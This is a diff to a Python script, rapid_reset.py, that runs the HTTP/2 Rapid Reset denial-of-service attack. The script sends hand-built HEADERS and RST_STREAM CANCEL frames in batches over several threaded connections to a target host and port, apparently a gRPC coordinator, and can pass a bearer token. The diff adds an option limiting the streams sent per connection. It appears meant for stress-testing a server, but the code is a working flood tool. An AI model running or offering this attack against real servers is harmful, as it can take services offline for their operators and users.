@@ -3,7 +3,7 @@
 gRPC call) and cancels each at once (RST_STREAM CANCEL), as fast as the socket takes them, reconnecting when the
 server sends GOAWAY or closes. Frames are written by hand (no HTTP/2 library): the point is what the server keeps.
 
-    rapid_reset.py HOST:PORT --streams 800000 [--connections 4] [--token TOKEN]
+    rapid_reset.py HOST:PORT --streams 800000 [--connections 4] [--token TOKEN] [--per-connection N]
 
 Prints the streams sent, connections made and GOAWAYs received. With --token the calls carry the coordinator's
 bearer token (a client that has it); without, they are refused and the coordinator closes the connection after the
@@ -82,10 +82,12 @@ def read_frames(sock: socket.socket, counters: Counters, closed: threading.Event
     closed.set()
 
 
-def attack(target: tuple[str, int], streams: int, token: str | None, counters: Counters) -> None:
+def attack(target: tuple[str, int], streams: int, token: str | None, counters: Counters,
+           per_connection: int) -> None:
     block = header_block(token)
     sent = 0
     while sent < streams:
+        on_this_connection = 0
         sock = socket.create_connection(target)
         sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         closed = threading.Event()
@@ -96,13 +98,15 @@ def attack(target: tuple[str, int], streams: int, token: str | None, counters: C
         try:
             sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
             stream = 1
-            while sent < streams and not closed.is_set() and stream < 2**31 - 1:
+            while (sent < streams and not closed.is_set() and stream < 2**31 - 1
+                   and (not per_connection or on_this_connection < per_connection)):
                 batch = b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block)
                                  + frame(RST_STREAM, 0, stream + 2 * i, struct.pack(">I", CANCEL))
                                  for i in range(100))
                 sock.sendall(batch)
                 stream += 200
                 sent += 100
+                on_this_connection += 100
                 with counters.lock:
                     counters.streams += 100
         except OSError:
@@ -118,12 +122,15 @@ def main() -> None:
     parser.add_argument("--streams", type=int, default=800_000)
     parser.add_argument("--connections", type=int, default=4, help="attacking connections at once")
     parser.add_argument("--token", help="the bearer token, for calls that pass authentication")
+    parser.add_argument("--per-connection", type=int, default=0,
+                        help="streams on one connection before the client closes it (0: until the server does)")
     arguments = parser.parse_args()
     host, _, port = arguments.target.rpartition(":")
     counters = Counters()
     started = time.monotonic()
     share = arguments.streams // arguments.connections
-    threads = [threading.Thread(target=attack, args=((host, int(port)), share, arguments.token, counters))
+    threads = [threading.Thread(target=attack, args=((host, int(port)), share, arguments.token, counters,
+                                                   arguments.per_connection))
                for _ in range(arguments.connections)]
     for thread in threads:
         thread.start()
